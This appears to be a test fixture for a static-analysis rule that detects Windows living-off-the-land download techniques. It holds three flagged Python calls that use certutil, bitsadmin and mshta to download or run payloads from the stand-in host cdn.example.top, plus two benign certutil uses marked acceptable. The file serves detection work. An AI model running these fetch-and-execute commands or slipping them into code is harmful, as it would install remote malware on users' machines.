import os, subprocess
# ruleid: lolbin_download
os.system('certutil -urlcache -split -f https://cdn.example.top/u.exe %TEMP%\\u.exe && %TEMP%\\u.exe')
# ruleid: lolbin_download
os.system('bitsadmin /transfer job /download /priority high https://cdn.example.top/u.exe %TEMP%\\u.exe')
# ruleid: lolbin_download
subprocess.Popen('mshta https://cdn.example.top/p.hta', shell=True)
# ok: lolbin_download
subprocess.run(['certutil', '-addstore', 'root', 'ca.crt'], check=True)
# ok: lolbin_download
digest = subprocess.check_output(['certutil', '-hashfile', path, 'SHA256'])
